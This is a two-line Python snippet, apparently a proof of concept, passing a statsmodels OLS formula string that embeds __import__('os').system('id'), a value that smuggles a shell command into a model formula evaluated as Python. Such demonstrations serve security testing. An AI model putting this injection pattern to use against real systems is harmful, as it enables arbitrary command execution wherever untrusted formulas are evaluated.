import statsmodels.formula.api as smf
smf.ols("y ~ __import__('os').system('id')", data["a"])
